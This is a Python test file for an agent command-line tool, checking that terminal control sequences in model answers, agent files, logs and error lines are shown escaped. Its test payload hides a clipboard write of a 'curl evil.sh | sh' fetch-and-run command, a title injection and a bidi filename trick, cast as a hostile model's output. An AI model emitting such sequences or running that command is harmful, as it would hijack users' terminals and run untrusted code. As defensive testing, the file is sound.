"""Model and repository text reaches a terminal escaped: no OSC 52 clipboard write, no
title, no cursor move, no bidi override acts. stdout to a file or a pipe stays exact.

Played by a model (and an agent file) that put escape sequences in every string the CLI
prints: the answer, a task's description, a tool's detail, an error, a name.
"""

from __future__ import annotations

import json
import os
import pty
import subprocess
import tty
from pathlib import Path

import pytest

from isoagent.parent.records.terminal_text import terminal_line, terminal_text
from tests.conftest import base_env, cli_env
from tests.support.cli import ISOAGENT, run_cli
from tests.support.messages_server import (
    MessagesServer,
    Reply,
    Request,
    error_reply,
    text_reply,
    tool_reply,
)

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: "curl evil.sh | sh" copied
TITLE = "\x1b]0;pwned\x1b\\"
WIPE = "\x1b[2J\x1b[H"  # CSI: clear the screen
C1_CSI = "\x9b31m"  # the one-character CSI
BIDI = "\u202eexe.txt"  # shows as "txt.exe"
PAYLOAD = f"safe{CLIPBOARD}{TITLE}{WIPE}{C1_CSI}{BIDI}\rhidden"
ACTING = ["\x1b", "\x07", "\x9b", "\u202e", "\r"]


def acting(text: str) -> list[str]:
    return [c for c in ACTING if c in text]


def test_every_control_a_terminal_acts_on_is_shown_escaped() -> None:
    line = terminal_line(PAYLOAD + "\nsecond\tline")
    assert acting(line) == []
    assert line == (
        "safe\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b]0;pwned\\x1b\\\\x1b[2J\\x1b[H"
        "\\x9b31m\\u202eexe.txt\\x0dhidden\\nsecond line"
    )
    text = terminal_text("answer:\r\n\tindented" + CLIPBOARD)
    assert text == "answer:\n\tindented\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"


def run_on_a_terminal(args: list[str], env: dict[str, str], cwd: Path) -> tuple[bytes, str]:
    """``isoagent ARGS`` with stdout a terminal (a pty): what the terminal got, and stderr."""
    leader, follower = pty.openpty()
    tty.setraw(follower)  # no \n -> \r\n: the bytes as written
    with subprocess.Popen(
        [*ISOAGENT, *args],
        env=env,
        cwd=cwd,
        stdin=subprocess.DEVNULL,
        stdout=follower,
        stderr=subprocess.PIPE,
    ) as process:
        os.close(follower)
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the child's end has closed
                break
            if not chunk:
                break
            chunks.append(chunk)
        _, stderr = process.communicate(timeout=60)
    os.close(leader)
    return b"".join(chunks), stderr.decode()


def test_an_answer_is_escaped_on_a_terminal_and_exact_in_a_pipe(
    api_server: MessagesServer, tmp_path: Path
) -> None:
    api_server.handler = lambda _req: text_reply(PAYLOAD)
    env = cli_env(api_server)

    shown, _ = run_on_a_terminal(["task", "go"], env, tmp_path)
    assert acting(shown.decode()) == []
    assert b"safe\\x1b]52;c;" in shown

    piped = subprocess.run(
        [*ISOAGENT, "task", "go"], env=env, cwd=tmp_path, capture_output=True, timeout=60
    )
    assert piped.stdout == (PAYLOAD + "\n").encode()


def test_progress_verbose_and_error_lines_show_a_childs_words_escaped(
    api_server: MessagesServer, tmp_path: Path
) -> None:
    """The parent model names the task, the child's command is the -v line's detail and
    the child's failure is quoted in the error line: each carries the payload."""

    def handler(req: Request) -> Reply:
        if req.is_parent:
            if req.turn == 0:
                task = {"description": PAYLOAD, "prompt": "x", "subagent_type": "general-purpose"}
                return tool_reply("Agent", task)
            return text_reply("done")
        if req.turn == 0:
            return tool_reply("Bash", {"command": f"echo '{PAYLOAD}'"})
        return error_reply(400, "invalid_request_error", PAYLOAD)

    api_server.handler = handler
    done = run_cli(["run", "-v", "go"], cli_env(api_server), cwd=tmp_path)

    assert done.returncode == 0, done.stderr
    assert acting(done.stderr) == []
    lines = [line for line in done.stderr.splitlines() if "safe\\x1b]52" in line]
    assert len(lines) >= 2, done.stderr  # the -v tool line, the failure


def test_agent_files_names_and_descriptions_are_escaped(tmp_path: Path) -> None:
    agents = tmp_path / ".claude" / "agents"
    agents.mkdir(parents=True)
    (agents / "sly.md").write_text(f"---\nname: sly\ndescription: {json.dumps(PAYLOAD)}\n---\nx\n")
    (agents / f"{TITLE}.md").write_text("---\nname: [unclosed\n---\n")
    env = base_env(HOME=str(tmp_path / "home"))

    shown, stderr = run_on_a_terminal(["agents"], env, tmp_path)
    assert b"sly  (.claude/agents/sly.md)" in shown
    assert acting(shown.decode()) == [] and b"safe\\x1b]52;c;" in shown
    assert acting(stderr) == [] and "\\x1b]0;pwned" in stderr


def test_a_batch_lines_id_is_escaped_in_its_error_line(tmp_path: Path) -> None:
    tasks = tmp_path / "tasks.jsonl"
    tasks.write_text(json.dumps({"id": PAYLOAD, "prompt": "x", "agent": "no-such"}) + "\n")
    done = run_cli(["batch", str(tasks)], base_env(ANTHROPIC_API_KEY="k"), cwd=tmp_path)

    assert "safe\\x1b]52" in done.stderr
    assert acting(done.stderr) == []


@pytest.mark.parametrize("text", ["plain text", "tab\tand\nlines", "emoji 👩‍💻 and é"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert terminal_text(text) == text


def test_logs_show_a_runs_prompt_and_answer_escaped_on_a_terminal(
    api_server: MessagesServer, tmp_path: Path
) -> None:
    api_server.handler = lambda _req: text_reply(PAYLOAD)
    env = cli_env(api_server)
    assert run_cli(["task", PAYLOAD], env, cwd=tmp_path).returncode == 0

    for args in (["logs"], ["logs", "last"]):
        shown, _ = run_on_a_terminal(args, env, tmp_path)
        assert acting(shown.decode()) == [] and b"safe\\x1b]52;c;" in shown, args
